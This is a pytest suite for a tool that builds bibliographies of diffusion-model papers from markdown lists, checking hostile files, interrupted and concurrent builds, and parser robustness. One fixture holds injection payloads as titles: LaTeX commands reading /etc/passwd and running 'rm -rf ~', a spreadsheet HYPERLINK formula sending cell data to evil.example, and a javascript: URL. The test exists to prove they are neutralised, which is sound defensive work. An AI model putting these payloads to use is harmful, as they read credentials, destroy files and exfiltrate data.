"""Hostile inputs, interrupted and concurrent runs, malicious lists: nothing lost, nothing corrupted."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import bibtexparser
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from diffdata.parse import parse_document
from diffdata.pipeline import EnrichOptions, build
from diffdata.s2 import S2Settings

GOOD = "# Good\n\n- [Denoising Diffusion Probabilistic Models](https://arxiv.org/abs/2006.11239)\n"
OFFLINE = EnrichOptions(S2Settings(offline=True), progress=False)
URL_RE = re.compile(r"https?://[^\s<>\"'`)\]]+")


def project(tmp_path: Path, files: dict[str, bytes | str]) -> Path:
    lists = tmp_path / "raw" / "lists"
    lists.mkdir(parents=True, exist_ok=True)
    (lists / "good.md").write_text(GOOD)
    for name, data in files.items():
        target = lists / name
        if isinstance(data, bytes):
            target.write_bytes(data)
        else:
            target.write_text(data, encoding="utf-8")
    return tmp_path


def run_build(root: Path) -> tuple[list[str], object]:
    logs: list[str] = []
    result = build(root, log=logs.append, enrich_options=OFFLINE)
    return logs, result


HOSTILE = [
    ("empty.md", b"", "warning: empty.md: empty file"),
    ("blank.md", b"  \n\t\n   \n", "warning: blank.md: empty file"),
    ("latin1.md", b"# T\n\n- [Caf\xe9](https://arxiv.org/abs/2101.00001)\n", "error: latin1.md:3: not valid UTF-8"),
    ("binary.md", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "error: binary.md:3: binary file"),
    ("prose.md", "# Notes\n\nNothing to see, no links.\n", "warning: prose.md: no entries found"),
    ("notes.txt", "- [A](https://arxiv.org/abs/2101.00001)\n", "warning: notes.txt: not a markdown file"),
    ("unbalanced.md", "- [Broken link](https://arxiv.org/abs/2101.00002\n- [Fine](https://arxiv.org/abs/2101.00003)\n",
     "warning: unbalanced.md:1: link with unbalanced brackets"),
]


@pytest.mark.parametrize(("name", "data", "message"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_file_is_named_and_the_other_lists_still_build(tmp_path: Path, name: str, data: bytes | str,
                                                               message: str) -> None:
    logs, result = run_build(project(tmp_path, {name: data}))
    assert any(line.startswith(message) for line in logs), logs
    assert "good.md" in set(result.occurrences.source)
    assert (tmp_path / "processed" / "papers.bib").is_file()


def test_broken_symlink(tmp_path: Path) -> None:
    root = project(tmp_path, {})
    os.symlink(root / "nowhere.md", root / "raw" / "lists" / "dangling.md")
    logs, result = run_build(root)
    assert "error: dangling.md: broken symbolic link; skipped" in logs
    assert set(result.occurrences.source) == {"good.md"}


def test_bom_and_crlf_keep_line_numbers(tmp_path: Path) -> None:
    text = "\ufeff# T\r\n\r\n- [A paper](https://arxiv.org/abs/2101.00004)\r\n"
    _logs, result = run_build(project(tmp_path, {"bom.md": text.encode("utf-8")}))
    occ = result.occurrences.set_index("occurrence_id")
    assert occ.loc["bom.md:3", "arxiv_id"] == "2101.00004"
    assert occ.loc["bom.md:3", "title"] == "A paper"


def test_megabyte_line_and_deep_nesting() -> None:
    rows, _ = parse_document("line.md", "- [T](https://arxiv.org/abs/2101.00001) " + "x" * 1_000_000 + "\n")
    assert len(rows) == 1 and len(rows[0]["note"] or "") < 1_000_100
    nested = "".join("  " * d + f"- [P{d}](https://arxiv.org/abs/2101.{d:05d})\n" for d in range(60))
    rows, report = parse_document("nested.md", nested)
    found = {r["arxiv_id"] for r in rows}
    unread = {r["url"] for r in report if r["reason"].startswith("link not read")}
    assert len(found) + len(unread) == 60 and len(found) >= 20  # every link is an entry or reported, none lost
    quotes = ">" * 500 + " [x](https://arxiv.org/abs/2101.00001)\n"
    rows, report = parse_document("quotes.md", quotes)
    assert any(r["url"] == "https://arxiv.org/abs/2101.00001" and r["line"] == 1 for r in report)


def test_twenty_megabyte_list(tmp_path: Path) -> None:
    entry = "- [Paper number {i} on diffusion](https://arxiv.org/abs/2101.{i:05d})\n"
    prose = "Some prose about diffusion models that goes on for a while, with no link at all. " * 12 + "\n\n"
    parts = [entry.format(i=i) for i in range(2000)] + ["\n"] + [prose] * 20_500
    text = "".join(parts)
    assert len(text.encode()) > 20_000_000
    rows, report = parse_document("huge.md", text)
    assert len(rows) == 2000 and not [r for r in report if r["severity"] != "info"]


def test_raw_html_links_are_read_and_scripts_ignored() -> None:
    html = ('<div><a href="https://arxiv.org/abs/2006.11239">DDPM</a><script>alert("x")</script></div>\n\n'
            '<table><tr><td><a href="https://youtu.be/abc">A talk</a></td></tr></table>\n')
    rows, _report = parse_document("html.md", html)
    assert [(r["title"], r["kind"], r["line"]) for r in rows] == [("DDPM", "paper", 1), ("A talk", "video", 3)]


MALICIOUS = textwrap.dedent(r"""
    # Evil list

    - [\input{/etc/passwd} and \write18{rm -rf ~} {unbalanced](https://arxiv.org/abs/2101.00011)
    - [=HYPERLINK("http://evil.example/?q="&A1) @SUM(1) %#&$~^ 🚀 مرحبا](https://arxiv.org/abs/2101.00012)
    - [\url{javascript:alert(1)} }}}{{{](https://arxiv.org/abs/2101.00013)
    """)


def test_malicious_list_gives_harmless_bibtex_and_csv(tmp_path: Path) -> None:
    _, result = run_build(project(tmp_path, {"evil.md": MALICIOUS}))
    bib = (tmp_path / "processed" / "papers.bib").read_text()
    assert bib.isascii()
    for live in (r"\input{", r"\write18{", r"\url{javascript"):
        assert live not in bib
    library = bibtexparser.parse_string(bib)
    assert not library.failed_blocks and len(library.entries) == len(result.papers)
    csv_text = (tmp_path / "processed" / "papers.csv").read_text()
    papers = pd.read_csv(tmp_path / "processed" / "papers.csv", dtype=str, keep_default_na=False)
    evil = papers[papers.work_id == "arxiv:2101.00012"].iloc[0]
    assert evil.title.startswith("'=HYPERLINK(") and "مرحبا" in evil.title and "🚀" not in csv_text
    # the Parquet keeps the title as written (markdown and emoji removed), only the CSV neutralises it
    parquet = result.papers.set_index("work_id")
    assert parquet.loc["arxiv:2101.00012", "title"].startswith("=HYPERLINK(")


# -- interrupted and concurrent runs ----------------------------------------------------------------------

HANG_IN_REPLACE = """
import os, pathlib, sys, time
real, calls = os.replace, []
def hang_at_the_nth(src, dst):
    if "parse-cache" in str(dst):  # the parse cache is a build artefact, written before the registry
        return real(src, dst)
    calls.append(dst)
    if len(calls) == int(os.environ["HANG_AT"]):  # tell the test, then hang until killed
        pathlib.Path(os.environ["MARKER"]).write_text(str(dst))
        time.sleep(600)
    return real(src, dst)
os.replace = hang_at_the_nth
from diffdata.pipeline import EnrichOptions, build
from diffdata.s2 import S2Settings
build(__import__("pathlib").Path(sys.argv[1]), log=lambda m: None,
      enrich_options=EnrichOptions(S2Settings(offline=True), progress=False))
"""


def outputs(root: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted((root / "processed").iterdir()) if not p.name.startswith(".")}


def test_sigkill_during_writing_leaves_old_or_new_files_and_rerun_is_identical(tmp_path: Path) -> None:
    root = project(tmp_path, {})
    run_build(root)
    old = outputs(root)
    (root / "raw" / "lists" / "more.md").write_text("- [Video Diffusion Models](https://arxiv.org/pdf/2204.03458)\n")
    keys = root / "raw" / "citation_keys.csv"
    marker = tmp_path / "hanging"
    # the key registry is replaced first, then the outputs one by one: hang in the second output's replace
    proc = subprocess.Popen([sys.executable, "-c", HANG_IN_REPLACE, str(root)],
                            env={**os.environ, "HANG_AT": "3", "MARKER": str(marker)})
    deadline = time.monotonic() + 60
    while not marker.exists() and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.02)  # polls a condition, assumes no timing
    assert marker.read_text() == str(root / "processed" / "papers.parquet")
    assert len(keys.read_text().splitlines()) == 3  # the registry was written before any output
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=30)
    mid = outputs(root)
    assert set(mid) == set(old)
    run_build(root)
    new = outputs(root)
    for name, data in mid.items():
        assert data in (old[name], new[name]), f"{name} is neither the old nor the new file"
    replaced = [n for n in mid if mid[n] == new[n] != old[n]]
    assert 0 < len(replaced) < len([n for n in mid if new[n] != old[n]])  # killed halfway through the writes
    assert not list((root / "processed").glob(".tmp-*"))  # the rerun removed what the killed run left
    run_build(root)
    assert outputs(root) == new


def test_two_builds_at_once_corrupt_nothing(tmp_path: Path) -> None:
    root = project(tmp_path, {"more.md": "- [Video Diffusion Models](https://arxiv.org/pdf/2204.03458)\n"})
    code = ("import sys, pathlib; from diffdata.pipeline import build, EnrichOptions; from diffdata.s2 import "
            "S2Settings; build(pathlib.Path(sys.argv[1]), log=lambda m: None, "
            "enrich_options=EnrichOptions(S2Settings(offline=True), progress=False))")
    procs = [subprocess.Popen([sys.executable, "-c", code, str(root)]) for _ in range(3)]
    assert [p.wait(timeout=120) for p in procs] == [0, 0, 0]
    together = outputs(root)
    keys = (root / "raw" / "citation_keys.csv").read_text()
    run_build(root)
    assert outputs(root) == together
    assert (root / "raw" / "citation_keys.csv").read_text() == keys
    assert len(keys.splitlines()) == 3  # header + two works: no duplicated registry rows


def test_sigkill_during_enrichment_resumes_without_refetching(tmp_path: Path) -> None:
    from tests.fake_s2 import FakeS2, Fault, make_paper

    ids = [f"2101.{i:05d}" for i in range(1, 701)]
    corpus = [make_paper(a, f"Synthetic paper {a}", 2021, ["A. Author"]) for a in ids]
    root = tmp_path
    lists = root / "raw" / "lists"
    lists.mkdir(parents=True)
    (lists / "many.md").write_text("".join(f"- [Synthetic paper {a}](https://arxiv.org/abs/{a})\n" for a in ids))
    code = ("import sys, pathlib; from diffdata.pipeline import build, EnrichOptions; from diffdata.s2 import "
            "S2Settings; build(pathlib.Path(sys.argv[1]), log=lambda m: None, enrich_options=EnrichOptions("
            "S2Settings(api_url=sys.argv[2]), progress=False))")
    with FakeS2.running(corpus) as fake:
        fake.inject("batch", Fault.slow(0.0), Fault.slow(5.0))  # the second batch call hangs
        proc = subprocess.Popen([sys.executable, "-c", code, str(root), fake.url])
        deadline = time.monotonic() + 60
        while fake.count("batch") < 2 and time.monotonic() < deadline:
            time.sleep(0.05)  # polls a condition: the second call is sent only once the first is cached
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=30)
        cache = root / "raw" / "semanticscholar"
        files = [p for p in cache.iterdir() if not p.name.startswith(".")]
        assert len(files) == 500  # the first batch was stored, answer by answer
        for p in files:
            assert json.loads(p.read_text())["status"] == "ok"  # every file complete and valid
        fake.reset_log()
        _logs, result = run_build_online(root, fake.url)
        asked = [len(r.json()["ids"]) for r in fake.requests if r.endpoint == "batch"]
        assert asked == [200]  # only what was missing
    assert set(result.papers.enrichment_status) == {"ok"}
    assert not list(cache.glob(".tmp-*"))


def run_build_online(root: Path, url: str) -> tuple[list[str], object]:
    logs: list[str] = []
    result = build(root, log=logs.append,
                   enrich_options=EnrichOptions(S2Settings(api_url=url), progress=False))
    return logs, result


# -- property-based --------------------------------------------------------------------------------------

MARKDOWN_BITS = st.sampled_from([
    "# ", "## ", "- ", "1. ", "  ", "**", "*", "_", "[", "]", "(", ")", "<", ">", "|", "\\", "`", "\n", "\n\n",
    ":zap:", "WR=3", "paper : ", "논문: ", "https://arxiv.org/abs/2006.11239", "https://youtu.be/x",
    "https://github.com/o/r", "<a href=\"https://arxiv.org/abs/2101.00001\">", "</a>", "<sup>1</sup>",
    "Denoising", "Diffusion", "Models", "é", "🚀", "مرحبا", "{", "}", "%", "#", "&", "$", "~", "^", "|---|", "\r\n",
])


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(MARKDOWN_BITS | st.text(max_size=5), max_size=60).map("".join))
def test_parser_never_crashes_and_never_loses_a_url(text: str) -> None:
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    rows, report = parse_document("random.md", text)
    linked = {x["url"] for r in rows for x in r["links"]} | {r["url"] for r in report if r["url"]}
    for url in URL_RE.findall(text):
        url = url.rstrip(".,;:!?*")
        read = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", url)  # a backslash escape is read as its character
        assert any(x == u or x.startswith(u) or u.startswith(x) for u in linked for x in (url, read)), (url, text)
    assert len({r["occurrence_id"] for r in rows}) == len(rows)


def test_temp_files_a_killed_build_left_in_the_build_caches_are_removed(tmp_path: Path) -> None:
    lists = tmp_path / "raw" / "lists"
    lists.mkdir(parents=True)
    (lists / "a.md").write_text("- [Made Up Paper](https://arxiv.org/abs/2001.00001)\n", encoding="utf-8")
    left = [tmp_path / "build" / "parse-cache" / ".tmp-1.json", tmp_path / "build" / "memo" / ".tmp-2.bin"]
    for p in left:
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(b"half written")
    said: list[str] = []
    build(tmp_path, log=said.append, enrich_options=OFFLINE)
    assert not any(p.exists() for p in left)
    assert sum("left by an interrupted run" in s for s in said) == 2
